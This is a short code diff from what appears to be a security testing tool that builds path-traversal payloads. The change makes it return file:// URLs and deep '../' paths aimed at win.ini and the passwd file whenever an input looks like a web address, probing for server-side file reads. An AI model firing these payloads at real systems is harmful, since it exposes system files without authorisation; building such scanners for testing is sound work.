@@ -28,10 +28,13 @@ const DEEP = 12;
 export function traversalPayloads(place: TraversalPlace): string[] {
   const { example, server } = place;
   const isWindows = server === 'windows' || /^[a-z]:[\\/]/i.test(example);
+  const fileUrl = isWindows ? 'file:///c:/windows/win.ini' : `file:///${PASSWD}`;
+  // What fetches an address reads files by one, and joins nothing.
+  if (/^https?:/i.test(example)) return [fileUrl, `/${up(DEEP)}${isWindows ? WIN_INI : PASSWD}`];
   const payloads = isWindows ? windowsPayloads() : server === 'java' ? javaPayloads(place) : unixPayloads(place);
   const folder = example.slice(0, example.lastIndexOf('/') + 1);
   // Code that demands a certain folder in front, a full path or a URL is met halfway.
-  if (/^file:/i.test(example)) payloads.unshift(isWindows ? 'file:///c:/windows/win.ini' : `file:///${PASSWD}`);
+  if (/^file:/i.test(example)) payloads.unshift(fileUrl);
   else if (/^[^/].*\//.test(folder)) payloads.unshift(folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
   else if (folder.length > 1) payloads.splice(3, 0, folder + up(DEEP) + (isWindows ? WIN_INI : PASSWD));
   return [...new Set(payloads)].slice(0, PAYLOADS_MAX);
